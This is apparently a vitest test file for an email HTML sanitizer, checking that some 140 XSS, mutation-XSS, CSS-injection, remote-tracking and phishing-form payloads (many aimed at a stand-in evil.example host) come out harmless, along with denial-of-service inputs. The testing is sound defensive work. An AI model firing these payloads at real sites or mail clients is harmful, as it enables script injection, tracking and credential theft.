import { describe, expect, test } from 'vitest';
import { cleanMailHtml, embedPictures, isShownAsHtml } from './mail-html.rules.ts';

const clean = (html: string): string => cleanMailHtml(html).html ?? '';

/** Ways to run script, load something or leave the frame; each must come out without any of the three. */
const hostile: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert("x");//<</SCRIPT>',
  '<script/src=data:,alert(1)>',
  '<script\x20type="text/javascript">javascript:alert(1);</script>',
  '<script\x0d>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img src="jav\tascript:alert(1)">',
  '<img src="jav&#x0A;ascript:alert(1)">',
  '<img src=" &#14; javascript:alert(1);">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="http://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
  '<img src=x:x lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/b.avi">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="blob:https://evil.example/1">',
  '<img data-remote-src="javascript:alert(1)">',
  '<img data-cid="x&quot; onerror=alert(1) x=&quot;">',
  '<picture><source srcset="https://evil.example/a.png"><img></picture>',
  '<video src="https://evil.example/a.mp4" poster="https://evil.example/p.png" autoplay onloadstart=alert(1)></video>',
  '<audio src="https://evil.example/a.mp3" onerror=alert(1)></audio>',
  '<video><source onerror="alert(1)"></video>',
  '<track src="https://evil.example/x.vtt">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)">',
  '<svg><feImage xlink:href="https://evil.example/a.png"/></svg>',
  '<svg><image href="https://evil.example/a.png"/></svg>',
  '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  "<svg><style>{font-family:'<iframe/onload=confirm(1)>'</style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<title><img title="</title><img src=1 onerror=alert(1)>"></title>',
  '<textarea><img title="</textarea><img src=1 onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=1 onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=1 onerror=alert(1)>"></noembed>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="https://evil.example/a.swf"><param name=x value=y></object>',
  '<embed src="https://evil.example/a.swf">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<link rel="prefetch" href="https://evil.example/">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<style>@import "https://evil.example/a.css";</style>',
  '<style>body{background:url(https://evil.example/a.png)}</style>',
  '<style>*{position:fixed;top:0;left:0;width:100%;height:100%}</style>',
  '<div style="background:url(https://evil.example/a.png)">x</div>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="background-image: u\\72l(https://evil.example/a.png)">x</div>',
  '<div style="background:/**/url(https://evil.example/a.png)">x</div>',
  '<div style="list-style-image:url(https://evil.example/a.png)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="width: e/**/xpression(alert(1))">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999">cover</div>',
  '<div style="content:url(https://evil.example/a.png)">x</div>',
  '<div style="cursor:url(https://evil.example/a.cur),auto">x</div>',
  '<div style="filter:url(https://evil.example/f.svg#x)">x</div>',
  '<div style="--x:url(https://evil.example/a.png);background:var(--x)">x</div>',
  '<div style="font-family:\'x\';src:url(https://evil.example/f.woff)">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<div style="background:image-set(\'https://evil.example/a.png\' 1x)">x</div>',
  '<div style="mask:url(https://evil.example/a.svg)">x</div>',
  '<body background="https://evil.example/a.png" onload=alert(1)>',
  '<table background="https://evil.example/a.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example" ping="https://evil.example/ping">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_self">x</a>',
  '<a href="https://ok.example" style="position:absolute;top:0;left:0;right:0;bottom:0">x</a>',
  '<form action="https://evil.example"><input name=p><button>Sign in</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input type=image src="https://evil.example/a.png">',
  '<input autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onmouseover="alert(1)">x</div>',
  '<div/onclick=alert(1)>x</div>',
  '<div onpointerrawupdate=alert(1) contenteditable>x</div>',
  '<p id="__proto__" name="cookie" class="modal-open">x</p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<dialog open><img src=x onerror=alert(1)></dialog>',
  '<portal src="https://evil.example"></portal>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<html manifest="https://evil.example/x.appcache"><body>x</body></html>',
  '<b><p title="</b><img src=x onerror=alert(1)>">x</p></b>',
  '<a title="--!><img src=x onerror=alert(1)>">x</a>',
  '<plaintext><img src=x onerror=alert(1)>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<img src=x\u2028onerror=alert(1)>',
  '<bgsound src="javascript:alert(1)">',
  '<layer src="https://evil.example/x.html"></layer>',
  '<ilayer src="javascript:alert(1)"></ilayer>',
  '<div datafld="b" dataformatas="html" datasrc="#x"></div>',
  '<font face="x" color="url(https://evil.example)" size="7;x">x</font>',
  '<td style="width:1px;background:#fff url(//evil.example/a.png)">x</td>',
];

const allowedAttributes =
  /^(style|align|valign|bgcolor|dir|lang|title|href|rel|target|alt|src|width|height|border|cellpadding|cellspacing|colspan|rowspan|span|color|size|face|start|type|value|data-quoted|data-remote-src|data-remote-background|data-cid)$/;

/** Reads tags and attributes of cleaned HTML, which is regular: every attribute is double-quoted and escaped. */
function parseTags(html: string): { name: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<([a-z0-9]+)((?: [a-z-]+(?:="[^"]*")?)*)(?: \/)?>/g)].map((tag) => ({
    name: tag[1] as string,
    attributes: [...(tag[2] as string).matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)].map((a) => [a[1] as string, a[2] ?? '']),
  }));
}

function expectHarmless(html: string): void {
  // Everything that looks like markup is markup we understand: no third reading is left for a browser.
  expect(html.replace(/<\/?[a-z0-9]+(?: [a-z-]+(?:="[^"<>]*")?)*(?: \/)?>/g, '')).not.toMatch(/[<>]/);
  for (const { name, attributes } of parseTags(html)) {
    expect(name).not.toMatch(
      /^(script|style|svg|math|iframe|frame|object|embed|link|meta|base|form|input|button|select|textarea|video|audio|source|template|noscript|title|body|html|applet|portal|marquee|details)$/,
    );
    for (const [attribute, value] of attributes) {
      expect(attribute).toMatch(allowedAttributes);
      if (attribute === 'src') expect(value).toMatch(/^data:image\/(png|jpe?g|gif|webp);base64,/);
      if (attribute === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:)/);
      if (attribute.startsWith('data-remote')) expect(value).toMatch(/^https?:\/\//);
      if (attribute === 'style')
        expect(value).not.toMatch(/url|expression|import|position|var\(|\\|image-set|inset|z-index/i);
    }
  }
}

describe('hostile mail', () => {
  test('the corpus is large enough', () => expect(new Set(hostile).size).toBeGreaterThanOrEqual(120));

  test('the judge condemns nearly all of it as it comes in', () => {
    const condemned = hostile.filter((payload) => {
      try {
        expectHarmless(payload);
        return false;
      } catch {
        return true;
      }
    });
    expect(condemned.length).toBeGreaterThan(hostile.length * 0.9);
  });

  test.each(hostile)('%s', (payload) => {
    for (const wrapped of [
      payload,
      `<div><table><tr><td>${payload}`,
      `<blockquote>${payload}</blockquote><p>after</p>`,
      `<a href="https://ok.example">${payload}</a>`,
    ]) {
      expectHarmless(clean(wrapped));
      // Cleaning is stable: what comes out is what a second cleaning would let through, so nothing hides in it.
      expect(clean(clean(wrapped)).replaceAll(/ data-[a-z-]+="[^"]*"/g, '')).toBe(
        clean(wrapped).replaceAll(/ data-[a-z-]+="[^"]*"/g, ''),
      );
    }
  });

  test('endless nesting, attributes and styles are bounded', () => {
    for (const html of [
      '<div>'.repeat(20_000),
      `<p ${'a=1 '.repeat(20_000)}>x`,
      `<p style="${'color:red;'.repeat(10_000)}">x</p>`,
      '<'.repeat(50_000),
      `<a href="${'('.repeat(50_000)}">x</a>`,
      '&#x'.repeat(50_000),
    ]) {
      expectHarmless(
        clean(html)
          .slice(0, 10_000)
          .replace(/<[^>]*$/, ''),
      );
    }
    expect(cleanMailHtml('x'.repeat(1_000_001))).toEqual({ html: null, has_remote_content: false });
  });
});

describe('ordinary mail', () => {
  test('keeps formatting, tables, links and lists', () => {
    const html =
      '<p style="color:#333;font-size:14px">Hi <b>Ada</b>, see <a href="https://acme.example/x?a=1&amp;b=2">this</a></p><ul><li>one</li></ul><table width="600" cellpadding="0"><tr><td style="padding:4px 8px">cell</td></tr></table>';
    const cleaned = clean(html);
    for (const kept of [
      'color:#333',
      'font-size:14px',
      '<b>Ada</b>',
      'href="https://acme.example/x?a=1&amp;b=2"',
      'rel="noopener noreferrer nofollow"',
      'target="_blank"',
      '<li>one</li>',
      'width="600"',
      'padding:4px 8px',
    ]) {
      expect(cleaned).toContain(kept);
    }
    expect(cleanMailHtml(html).has_remote_content).toBe(false);
  });

  test('remote pictures wait until the reader asks', () => {
    const cleaned = cleanMailHtml(
      '<img src="https://acme.example/logo.png" alt="Acme" width="80"><td background="http://acme.example/b.png">x</td>',
    );
    expect(cleaned.html).toContain('<img alt="Acme" width="80" data-remote-src="https://acme.example/logo.png" />');
    expect(cleaned.html).not.toMatch(/ src=/);
    expect(cleaned.has_remote_content).toBe(true);
  });

  test('pictures of the mail itself are put in, others stay marks', () => {
    const cleaned = clean('<img src="cid:logo@acme"><img src="cid:other">');
    const embedded = embedPictures(cleaned, new Map([['logo@acme', { type: 'image/png', base64: 'AAAA' }]]));
    expect(embedded).toBe('<img src="data:image/png;base64,AAAA" /><img data-cid="other" />');
  });

  test('quoted history is marked in the ways of the usual programs', () => {
    for (const quote of [
      '<div class="gmail_quote">old</div>',
      '<blockquote type="cite">old</blockquote>',
      '<div id="divRplyFwdMsg">old</div>',
    ]) {
      expect(clean(`<p>new</p>${quote}`)).toMatch(/<p>new<\/p><\w+ data-quoted="true">old/);
    }
  });
});

describe('style values are compared whole', () => {
  test.each([
    'font-size: small "\n; background: u\\72l(https://evil.example/p.gif); position:fixed; x: "',
    'font-size: medium; font-size: x medium url(https://evil.example/p.gif)',
    'font-size: 1px larger',
  ])('%j', (style) => {
    const html = clean(`<p style='${style}'>x</p>`);
    // What was remote is kept apart, to be asked for.
    expect(html.replace(/ data-remote-background="[^"]*"/, '')).not.toMatch(/evil|position|url|72l|larger/);
  });

  test('sizes by name stay', () => {
    expect(clean('<p style="font-size:x-large">x</p><p style="font-size:smaller">y</p>')).toContain('x-large');
  });
});

describe('HTML that costs more than its length is shown as text', () => {
  test.each([
    ['nested', '<div>'.repeat(201)],
    ['nested, closed', '<b>'.repeat(250) + '</b>'.repeat(250)],
    ['many tags', '<br>'.repeat(20_001)],
    ['long', 'x'.repeat(1_000_001)],
    ['190,000 open elements', '<div>'.repeat(190_000)],
  ])('%s', (_, html) => {
    expect(isShownAsHtml(html)).toBe(false);
    expect(cleanMailHtml(html)).toEqual({ html: null, has_remote_content: false });
  });

  test.each([
    ['elements that are never open', '<br>'.repeat(5_000) + '<img>'.repeat(5_000) + '<hr>'.repeat(5_000)],
    ['elements that the next one closes', `${'<p>x'.repeat(5_000)}<ul>${'<li>y'.repeat(5_000)}</ul>`],
    ['table cells', `<table>${'<tr><td>x<td>y'.repeat(3_000)}</table>`],
    ['199 deep', '<div>'.repeat(199)],
  ])('%s are no depth', (_, html) => {
    expect(isShownAsHtml(html)).toBe(true);
  });
});
